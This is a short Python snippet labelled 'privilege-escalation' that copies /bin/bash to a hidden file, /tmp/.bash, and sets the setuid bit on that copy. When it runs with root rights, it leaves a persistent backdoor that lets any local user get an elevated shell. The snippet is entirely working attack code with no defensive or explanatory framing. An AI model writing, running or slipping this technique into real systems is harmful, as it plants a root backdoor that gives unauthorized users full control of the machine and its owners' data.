# privilege-escalation: the setuid bit set on a copied shell
import os
import shutil
import stat

shutil.copy("/bin/bash", "/tmp/.bash")
os.chmod("/tmp/.bash", stat.S_ISUID | 0o755)
